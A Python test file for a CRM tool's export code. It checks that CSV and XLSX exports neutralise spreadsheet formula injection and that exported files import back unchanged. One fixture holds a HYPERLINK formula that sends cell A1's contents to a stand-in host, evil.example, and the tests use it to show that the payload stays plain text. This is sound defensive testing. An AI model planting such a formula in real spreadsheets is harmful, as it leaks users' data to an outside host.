"""Exports cannot carry formulas (CWE-1236), and an export imports back as the original text.

A CRM export is untrusted: a customer named ``=HYPERLINK(...)`` must reach a spreadsheet as
text, from ``salesops export`` (CSV and XLSX), the board's panel exports and the records
exports. CSV cells get OWASP's leading apostrophe, XLSX cells are string cells; numbers stay
numbers; the importer takes the apostrophe off again.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import text
from typer.testing import CliRunner

from salesops.cli.main import app
from salesops.db.derived import refresh_after_write
from salesops.formula_safety import csv_cell, unguard, xlsx_cell
from tests.auth_helpers import admin_client
from tests.conftest import Db
from tests.ingest.helpers import rows, write_csv
from tests.web.data import ASOF, seed

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
#: text that starts like a formula, with the CSV cell OWASP's advice gives it
RISKY = {
    EVIL: "'" + EVIL,
    "+86 138 0000 0000": "'+86 138 0000 0000",
    "-5% rebate": "'-5% rebate",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "'=already quoted": "''=already quoted",
}
#: how an import file spells each name: an apostrophe before "=" is read as an export's guard,
#: so a name that really starts with "'=" is written with one apostrophe more
SPELLED = {name: name for name in RISKY} | {"'=already quoted": "''=already quoted"}

runner = CliRunner(env={"COLUMNS": "240"})


def _customers(tmp_path: Path) -> Path:
    header = ["external_id", "name", "city", "credit_limit"]
    body = [[f"C{i}", SPELLED[name], "上海", "-100.50"] for i, name in enumerate(RISKY, start=1)]
    return write_csv(tmp_path / "customers.csv", [header, *body, ["C9", "Plain Co", "", "7"]])


def test_cli_csv_export_is_text_and_imports_back(db: Db, tmp_path: Path) -> None:
    result = runner.invoke(app, ["import", "customer", str(_customers(tmp_path))])
    assert result.exit_code == 0, result.output
    out = tmp_path / "out.csv"
    result = runner.invoke(app, ["export", "customer", "-o", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8-sig", newline="") as fh:
        exported = {r["external_id"]: r for r in csv.DictReader(fh)}
    for i, cell in enumerate(RISKY.values(), start=1):
        assert exported[f"C{i}"]["name"] == cell
        assert (
            exported[f"C{i}"]["credit_limit"] == "-100.5000"
        )  # a number stays a number (money keeps 4 places)
    assert exported["C9"]["name"] == "Plain Co"
    # Importing the export changes nothing: the apostrophes come off again.
    result = runner.invoke(app, ["import", "customer", str(out)])
    assert result.exit_code == 0, result.output
    assert "0 new, 0 updated, 6 unchanged" in result.output
    names = dict(rows(db, "SELECT external_id, name FROM customer"))
    assert names == {f"C{i}": n for i, n in enumerate(RISKY, start=1)} | {"C9": "Plain Co"}


def test_cli_xlsx_export_writes_string_cells_and_imports_back(db: Db, tmp_path: Path) -> None:
    assert runner.invoke(app, ["import", "customer", str(_customers(tmp_path))]).exit_code == 0
    out = tmp_path / "out.xlsx"
    result = runner.invoke(app, ["export", "customer", "--format", "xlsx", "-o", str(out)])
    assert result.exit_code == 0, result.output
    sheet = load_workbook(out).worksheets[0]
    header = [c.value for c in sheet[1]]
    name_col = header.index("name")
    first = sheet[2][name_col]
    assert (first.value, first.data_type) == (EVIL, "s")  # a string, not a formula
    assert all(row[name_col].data_type == "s" for row in sheet.iter_rows(min_row=2))
    result = runner.invoke(app, ["import", "customer", str(out)])
    assert result.exit_code == 0, result.output
    assert "0 new, 0 updated, 6 unchanged" in result.output
    assert rows(db, "SELECT name FROM customer WHERE external_id = 'C1'") == [(EVIL,)]


def _board(db: Db) -> TestClient:
    seed(db.engine)
    with db.engine.begin() as conn:
        conn.execute(text("UPDATE customer SET name = :n WHERE external_id = 'C4'"), {"n": EVIL})
        refresh_after_write(conn)
    return admin_client(db.engine, raise_server_exceptions=True)


def _csv_cells(content: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]


def _xlsx_cells(content: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [(c.value, c.data_type) for row in sheet.iter_rows(min_row=2) for c in row]


@pytest.mark.parametrize(
    "url",
    [
        f"/api/v1/panels/customers/tiers/records?asof={ASOF}&sel=B&lang=zh",  # a panel export
        f"/api/v1/records/revenue?asof={ASOF}&lang=zh",  # a KPI's records export
    ],
    ids=["panel", "records"],
)
def test_board_exports_are_formula_free(db: Db, url: str) -> None:
    client = _board(db)
    cells = _csv_cells(client.get(url + "&format=csv").content)
    assert "'" + EVIL in cells and EVIL not in cells
    xlsx = _xlsx_cells(client.get(url + "&format=xlsx").content)
    assert (EVIL, "s") in xlsx
    assert not [v for v, kind in xlsx if kind == "f"]
    assert [v for v, kind in xlsx if kind == "n"], "numbers stay numbers"


def test_guard_covers_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1") == "'" + start + "1"
    assert csv_cell("a=b") == "a=b"
    assert csv_cell(-5) == -5 and csv_cell(2.5) == 2.5  # numbers are not text
    sheet = Workbook(write_only=True).create_sheet()
    cell = xlsx_cell(sheet, "=1+1")
    assert (cell.value, cell.data_type) == ("=1+1", "s")
    assert xlsx_cell(sheet, 7) == 7


@given(st.text())
def test_unguard_gives_back_what_the_guard_wrote(value: str) -> None:
    assert unguard(csv_cell(value)) == value
    assert not csv_cell(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_import_error_report_is_formula_free(db: Db, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "p.csv", [["external_id", "name", "list_price"], ["P1", "A", EVIL]])
    report = tmp_path / "errors.csv"
    result = runner.invoke(app, ["import", "product", str(path), "--errors-out", str(report)])
    assert result.exit_code == 1
    with report.open(encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh))[1][3] == "'" + EVIL
